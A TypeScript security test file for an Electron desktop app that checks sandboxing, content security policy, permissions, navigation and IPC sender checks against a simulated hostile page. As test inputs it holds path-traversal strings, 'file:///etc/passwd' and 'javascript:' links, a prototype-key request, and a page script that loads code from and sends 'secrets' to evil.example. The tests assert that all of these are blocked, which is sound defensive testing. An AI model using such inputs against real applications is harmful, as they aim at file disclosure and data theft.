// Every security setting of the desktop app, as the compiled app sets it, in one table; and a hostile page trying.

import assert from 'node:assert/strict'
import { after, before, describe, type TestContext, test } from 'node:test'
import { desktopChannels } from '../../shared/api/desktop-channels.ts'
import { quit, runDesktop } from '../support/electron/run.ts'
import type { ElectronStandIn } from '../support/electron/stand-in.ts'
import { testFolder, testWorkspaceFolder } from '../support/workspace.ts'
import { useBrowser } from './support.ts'

useBrowser()

let electron: ElectronStandIn
const ends: (() => unknown)[] = []
before(async () => {
  // All of the file look at one start of the app.
  const t = { after: (end: () => unknown) => void ends.push(end) } as TestContext
  electron = await runDesktop(t, { userData: await testFolder(t), words: [await testWorkspaceFolder(t)] })
})
after(async () => {
  await quit(electron)
  for (const end of ends) await end()
})

const window = () => electron.windows[0] ?? assert.fail('there is no window')
const contents = () => window().webContents
const preferences = () => window().options.webPreferences

/** Whether an event of the page's is kept from doing what it would. */
function isPrevented(name: string, event: object = {}): boolean {
  let prevented = false
  contents().emit(name, {
    ...event,
    preventDefault: () => {
      prevented = true
    },
  })
  return prevented
}

const served = async (path: string, init?: RequestInit): Promise<Response> => {
  const handler = electron.defaultSession.schemes.get('app') ?? assert.fail('nobody serves app:')
  return handler(new Request(`app://${path}`, init))
}

const policy = async (directive: string): Promise<string | undefined> => {
  const header = (await served('crosswalk/')).headers.get('content-security-policy') ?? ''
  return header.split('; ').find((one) => one.startsWith(`${directive} `))
}

const permission = (name: string): boolean[] => {
  const { permissionRequest, permissionCheck } = electron.defaultSession
  let answer = true
  permissionRequest?.(contents(), name, (is) => {
    answer = is
  })
  return [answer, permissionCheck?.(contents(), name) ?? true]
}

/** What the main process answers to a request from somewhere. */
async function answered(event: object, request = 'workspace.recent', input?: unknown): Promise<unknown> {
  const handler = electron.invocations.get(desktopChannels.ask) ?? assert.fail('nobody answers')
  const answer = (await handler(event, request, input)) as { ok: boolean; failure?: { code: string } }
  return answer.ok || answer.failure?.code
}

const own = () => ({ sender: contents(), senderFrame: contents().mainFrame })
const away = (url: string) => isPrevented('will-navigate', { url, isMainFrame: true })

const DENIED = [false, false]

describe('the walls around a page', () => {
  const table: readonly (readonly [setting: string, actual: () => unknown, expected: unknown])[] = [
    // The window
    ['context isolation', () => preferences().contextIsolation, true],
    ['the sandbox', () => preferences().sandbox, true],
    ['the sandbox of every process', () => electron.app.isSandboxEnabled, true],
    ['Node in the page', () => preferences().nodeIntegration, false],
    ['Node in workers', () => preferences().nodeIntegrationInWorker, false],
    ['Node in frames', () => preferences().nodeIntegrationInSubFrames, false],
    ['web security', () => preferences().webSecurity, true],
    ['insecure content', () => preferences().allowRunningInsecureContent, false],
    ['experimental features', () => preferences().experimentalFeatures, false],
    ['the webview tag', () => preferences().webviewTag, false],
    ['a dropped file does not navigate', () => preferences().navigateOnDragDrop, false],
    ['the preload script is the built one', () => preferences().preload, /out[\\/]desktop[\\/]preload\.cjs$/],
    // Its address
    ['one scheme of our own', () => electron.privileges.map(({ scheme }) => scheme), ['app']],
    ['it is no way around the policy', () => electron.privileges[0]?.privileges.bypassCSP, false],
    ['it is secure', () => electron.privileges[0]?.privileges.secure, true],
    ['it has an origin', () => electron.privileges[0]?.privileges.standard, true],
    ['it has no service workers', () => electron.privileges[0]?.privileges.allowServiceWorkers, false],
    ['the interface is served', async () => (await served('crosswalk/')).status, 200],
    ['a script is served', async () => (await served('crosswalk/main.js')).status, 200],
    ['another host is not', async () => (await served('elsewhere/main.js')).status, 403],
    ['only GET', async () => (await served('crosswalk/', { method: 'POST' })).status, 403],
    ['no way up', async () => (await served('crosswalk/..%2f..%2fpackage.json')).status, 404],
    ['no way up by a backslash', async () => (await served('crosswalk/..%5c..%5cpackage.json')).status, 404],
    ['no other way up', async () => (await served('crosswalk/../../../package.json')).status, 404],
    ['no way up, twice encoded', async () => (await served('crosswalk/%252e%252e/main.js')).status, 404],
    ['no hidden file', async () => (await served('crosswalk/.env')).status, 404],
    ['no file of another kind', async () => (await served('crosswalk/built-from')).status, 404],
    // The policy
    ['nothing is allowed by default', () => policy('default-src'), "default-src 'none'"],
    ['scripts of ours alone', () => policy('script-src'), "script-src 'self'"],
    ['workers of ours alone', () => policy('worker-src'), "worker-src 'self'"],
    ['no connection elsewhere', () => policy('connect-src'), "connect-src 'self'"],
    ['no form', () => policy('form-action'), "form-action 'none'"],
    ['no base', () => policy('base-uri'), "base-uri 'none'"],
    ['no frame around it', () => policy('frame-ancestors'), "frame-ancestors 'none'"],
    [
      'no guessing of types',
      async () => (await served('crosswalk/')).headers.get('x-content-type-options'),
      'nosniff',
    ],
    // Permissions
    ...['media', 'geolocation', 'notifications', 'midi', 'openExternal', 'fileSystem', 'clipboard-read'].map(
      (name) => [`permission: ${name}`, () => permission(name), DENIED] as const,
    ),
    ['permission: a text is copied by a click', () => permission('clipboard-sanitized-write'), [true, true]],
    ['devices', () => electron.defaultSession.devicePermission?.(), false],
    // Ways out
    ['to a website', () => away('https://evil.example/'), true],
    ['to a file', () => away('file:///etc/passwd'), true],
    ['to a page that only begins like ours', () => away('app://crosswalk.evil/'), true],
    ['to another file of ours as a page', () => away('app://crosswalk/main.js'), true],
    ['to itself', () => away('app://crosswalk/'), false],
    [
      'a frame',
      () => isPrevented('will-frame-navigate', { url: 'app://crosswalk/', isMainFrame: false }),
      true,
    ],
    ['a redirect', () => isPrevented('will-redirect', { url: 'https://evil.example/' }), true],
    ['a webview', () => isPrevented('will-attach-webview'), true],
    ['a window', () => contents().opens('https://example.com/'), { action: 'deny' }],
    // Who may ask
    ['the page itself', () => answered(own()), true],
    [
      'a frame in it',
      () => answered({ ...own(), senderFrame: { url: 'app://crosswalk/' } }),
      'desktop/foreign-sender',
    ],
    ['a frame that is gone', () => answered({ ...own(), senderFrame: null }), 'desktop/foreign-sender'],
    ['another window', () => answered({ ...own(), sender: {} }), 'desktop/foreign-sender'],
    ['for what there is not', () => answered(own(), 'shell.run'), 'desktop/bad-request'],
    ['for what objects inherit', () => answered(own(), '__proto__'), 'desktop/bad-request'],
    ['wrongly', () => answered(own(), 'workspace.open', { folder: 7 }), 'desktop/bad-request'],
    [
      'with more than it takes',
      () => answered(own(), 'workspace.open', { as: 'root' }),
      'desktop/bad-request',
    ],
    [
      'to keep what the workspace does not name',
      () => answered(own(), 'credentials.keep', { variable: 'PATH', url: 'postgres://h/d' }),
      'desktop/unknown-variable',
    ],
    [
      'to keep what is no database',
      () => answered(own(), 'credentials.keep', { variable: 'TEST_URL', url: 'file:///etc/passwd' }),
      'desktop/bad-request',
    ],
    // The services
    ['no option of Node gets to them', () => electron.services[0]?.options.env?.NODE_OPTIONS, undefined],
  ]
  for (const [setting, actual, expected] of table) {
    test(setting, async () => {
      const found = await actual()
      if (expected instanceof RegExp) assert.match(String(found), expected)
      else assert.deepEqual(found, expected)
    })
  }
})

test('of all links, only those to https open outside', () => {
  electron.openedOutside.length = 0
  for (const url of [
    'https://docs.example/a?b#c',
    'http://docs.example/',
    'file:///etc/passwd',
    'smb://host/share',
    'javascript:alert(1)',
    'https://crosswalk.example@evil.example/',
    'vscode://file/etc/passwd',
    'no address',
  ]) {
    contents().opens(url)
  }
  assert.deepEqual(electron.openedOutside, ['https://docs.example/a?b#c'])
})

test('downloads are only what the page has made itself', () => {
  const isKept = (url: string) => {
    let kept = true
    const event = { preventDefault: () => (kept = false) }
    electron.defaultSession.emit('will-download', event, { getURL: () => url })
    return kept
  }
  assert.deepEqual(['blob:app://crosswalk/1', 'https://evil.example/x.exe'].map(isKept), [true, false])
})

test('the page has nothing of Node, and only two calls of the app', async () => {
  const seen = await contents().page.evaluate(() => {
    const page = globalThis as unknown as Record<string, unknown>
    return {
      node: ['process', 'require', 'module', 'Buffer', 'global'].filter((name) => name in page),
      bridge: Object.keys(page.crosswalkDesktop as object),
      isFrozen: Object.isFrozen(page.crosswalkDesktop),
    }
  })
  assert.deepEqual(seen, { node: [], bridge: ['ask', 'hear'], isFrozen: true })
})

test('what got into the page can neither run, nor load a script from elsewhere, nor tell anybody', async () => {
  const tried = await contents().page.evaluate(async () => {
    type Script = { src: string; textContent: string; onload(): void; onerror(): void }
    const page = globalThis as unknown as {
      document: { createElement(tag: string): Script; head: { append(it: unknown): void } }
      fetch(url: string): Promise<unknown>
      hasRun?: boolean
    }
    const inline = page.document.createElement('script')
    inline.textContent = 'globalThis.hasRun = true'
    page.document.head.append(inline)
    const foreign = page.document.createElement('script')
    const loaded = new Promise<boolean>((resolve) => {
      foreign.onload = () => resolve(true)
      foreign.onerror = () => resolve(false)
    })
    foreign.src = 'https://evil.example/x.js'
    page.document.head.append(foreign)
    const told = page.fetch('https://evil.example/?secrets').then(
      () => true,
      () => false,
    )
    return { hasRun: page.hasRun ?? false, loaded: await loaded, told: await told }
  })
  assert.deepEqual(tried, { hasRun: false, loaded: false, told: false })
})

test('a link that leaves the app is not followed, and the window stays where it is', async () => {
  const { page } = contents()
  await page.evaluate(() => {
    ;(globalThis as unknown as { location: { href: string } }).location.href = 'https://evil.example/'
  })
  await page.waitForTimeout(200)
  assert.match(page.url(), /^https:\/\/crosswalk\.stand-in\/$/)
  await page.getByRole('contentinfo').waitFor()
})
